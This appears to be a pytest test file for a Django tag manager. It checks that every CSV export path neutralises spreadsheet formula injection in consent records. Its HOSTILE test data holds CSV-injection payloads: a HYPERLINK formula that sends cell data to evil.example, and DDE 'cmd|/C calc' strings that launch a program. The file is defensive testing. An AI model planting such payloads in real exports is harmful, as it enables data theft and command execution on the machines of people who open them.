"""CSV exports are safe to open in a spreadsheet: a cell beginning with =, +, -, @, tab or
carriage return gets a leading ' (OWASP, "CSV Injection"), in every path that writes CSV."""

import csv
import io
import json
import uuid

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from tagmanager.models import ConsentRecord
from tagmanager.payloads import consent_parse
from tagmanager.services.consent import consent_record_create
from tagmanager.services.demo import demo_container_ensure
from tagmanager.spreadsheet import FORMULA_STARTS, csv_cell, csv_line
from tests.api.conftest import VIEW, client_for
from tests.factories import user_with
from tests.helpers import consent_proof

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A2,"go")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *((text, "'" + text) for text in HOSTILE),
        ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("a=b", "a=b"),
        ("", ""),
        (" =1", " =1"),  # not at the start: text to every spreadsheet
        (-5, "'-5"),
        (5, 5),
        (None, None),
        (True, True),
    ],
)
def test_cells(value, cell):
    assert csv_cell(value) == cell


@given(st.lists(st.text(max_size=20) | st.integers() | st.booleans(), max_size=6))
def test_no_cell_of_a_line_begins_a_formula(values):
    line = csv_line(values)
    (cells,) = csv.reader(io.StringIO(line, newline=""))
    assert len(cells) == len(values)
    for original, cell in zip(values, cells, strict=True):
        assert not cell.startswith(FORMULA_STARTS)
        assert cell in (str(original), "'" + str(original))  # nothing but the prefix changes


@pytest.fixture
def hostile_records(db):
    container = demo_container_ensure()
    records = []
    for user_agent in HOSTILE:
        consent_id = str(uuid.uuid4())
        data = consent_parse(
            {
                "consent_id": consent_id,
                **consent_proof(consent_id),
                "categories": {"analytics": True},
                "action": "accept_all",
                "source": "banner",
            }
        )
        records.append(
            consent_record_create(
                container=container, data=data, ip="203.0.113.9", user_agent=user_agent
            )
        )
    return records


def user_agents(body: bytes | str) -> list[str]:
    text = body.decode() if isinstance(body, bytes) else body
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row
    return sorted(row["user_agent"] for row in rows)


NEUTRALISED = sorted("'" + text for text in HOSTILE)


def test_api_export(hostile_records):
    client = client_for(user_with("auditor", perms=VIEW, containers=[hostile_records[0].container]))
    response = client.get("/tm/api/consent-records/export/", {"container": "demo", "format": "csv"})
    assert response.status_code == 200
    assert user_agents(b"".join(response.streaming_content)) == NEUTRALISED


def test_admin_export_page(hostile_records, client):
    client.force_login(user_with("admin", superuser=True))
    response = client.post(
        reverse("admin:tagmanager_consentrecord_export"),
        {
            "container": hostile_records[0].container.pk,
            "since": "2000-01-01",
            "until": "2999-12-31",
            "format": "csv",
        },
    )
    assert response.status_code == 200, response.content
    assert user_agents(b"".join(response.streaming_content)) == NEUTRALISED


def test_admin_list_action(hostile_records, client):
    client.force_login(user_with("admin", superuser=True))
    response = client.post(
        reverse("admin:tagmanager_consentrecord_changelist"),
        {"action": "export_csv", "_selected_action": [r.pk for r in hostile_records]},
    )
    assert response.status_code == 200
    assert user_agents(b"".join(response.streaming_content)) == NEUTRALISED


def test_management_command(hostile_records, tmp_path):
    path = tmp_path / "records.csv"
    call_command("tagmanager_export_consent", "demo", "--format", "csv", "-o", str(path))
    assert user_agents(path.read_bytes()) == NEUTRALISED


def test_json_export_keeps_the_text_as_it_is(hostile_records):
    client = client_for(user_with("auditor", perms=VIEW, containers=[hostile_records[0].container]))
    response = client.get(
        "/tm/api/consent-records/export/", {"container": "demo", "format": "json"}
    )
    rows = json.loads(b"".join(response.streaming_content))
    assert sorted(r["user_agent"] for r in rows) == sorted(HOSTILE)
    assert ConsentRecord.objects.count() == len(HOSTILE)
